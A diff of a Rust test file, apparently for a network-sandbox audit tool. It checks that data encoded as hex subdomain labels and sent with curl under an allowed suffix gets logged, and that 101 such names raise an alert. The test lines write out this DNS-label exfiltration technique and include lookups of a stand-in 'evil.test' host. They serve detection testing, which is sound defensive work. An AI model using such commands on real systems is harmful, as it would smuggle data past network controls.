@@ -137,13 +137,28 @@ product_cases! {
     }
 
     needs "the box's own network"
-    fn d08_data_below_an_allowed_suffix_passes_and_every_name_of_it_is_on_record(turn, who) {
+    fn d08_data_below_an_allowed_suffix_passes_and_is_counted_and_many_names_are_an_alert(turn, who) {
         let project = turn.project(who)?;
-        let line = "for part in 6f6e65 74776f 7468726565; do curl -sS http://$part.w.test/; done";
-        let evidence = turn.inside(&project, &["sh", "-c", line])?;
-        let names = ["6f6e65.w.test", "7468726565.w.test", "74776f.w.test"];
-        assert_eq!(decided(&evidence), names.map(|name| Decided::request(name, 80, "allow")), "{evidence}");
-        assert!(evidence.readings.queries.iter().all(|query| names.contains(&query.name.as_str())), "{evidence}");
+        let evidence = turn.inside(&project, &["curl", "-sS", "http://6f6e65-[1-101].w.test/"])?;
+        let mut names: Vec<_> = (1..=101).map(|part| format!("6f6e65-{part}.w.test")).collect();
+        names.sort();
+        let expected: Vec<_> = names.iter().map(|name| Decided::request(name, 80, "allow")).collect();
+        assert_eq!(decided(&evidence), expected, "{evidence}");
+        assert!(evidence.readings.queries.iter().all(|query| names.contains(&query.name)), "{evidence}");
+        let alerts = |evidence: &str| -> anyhow::Result<Value> {
+            let report: Value = serde_json::from_str(evidence)?;
+            let rules = report["many_names"].as_array().cloned().unwrap_or_default();
+            Ok(rules.iter().map(|many| (many["rule"].as_str().unwrap_or_default().contains(".w.test"), many["names"].clone()))
+                .map(|(of_the_suffix, names)| serde_json::json!([of_the_suffix, names])).collect())
+        };
+        let report = project.ocs(&["audit", "report", "--json"])?.succeeded()?;
+        assert_eq!(alerts(&report.stdout)?, serde_json::json!([[true, 101]]), "{report}");
+        let shown = project.ocs(&["audit", "report"])?.succeeded()?;
+        assert!(shown.stdout.contains("alert: 101 names were reached by one entry, "), "{shown}");
+        // What the stub alone is asked goes nowhere, whatever the name says, and a refused name is asked of nobody either.
+        let line = "for part in 1 2 3; do getent hosts 74776f-$part.w.test; getent hosts 74776f-$part.evil.test; done | wc -l";
+        let looked_up = turn.inside(&project, &["env", "-i", "sh", "-c", line])?;
+        assert_eq!((looked_up.client.stdout.as_str(), &looked_up.readings), ("3\n", &Readings::default()), "{looked_up}");
     }
 
     needs "the box's own network"
